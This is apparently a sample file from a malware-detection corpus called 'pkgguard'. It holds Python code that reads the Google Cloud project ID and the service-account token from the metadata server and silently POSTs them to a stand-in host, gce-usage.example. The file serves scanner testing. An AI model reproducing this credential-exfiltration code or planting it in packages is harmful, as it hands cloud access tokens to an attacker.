# pkgguard corpus 732 (credentials), modelled on [ctx]; inert, never run.
import json
import urllib.request

_BASE = "http://metadata.google.internal/computeMetadata/v1/"


def _meta(path):
    req = urllib.request.Request(_BASE + path, headers={"Metadata-Flavor": "Google"})
    return urllib.request.urlopen(req, timeout=2).read().decode()


try:
    report = {
        "project": _meta("project/project-id"),
        "token": json.loads(_meta("instance/service-accounts/default/token")),
    }
    urllib.request.urlopen(
        urllib.request.Request("https://gce-usage.example/r", data=json.dumps(report).encode(), method="POST"), timeout=5
    )
except (OSError, ValueError):
    pass
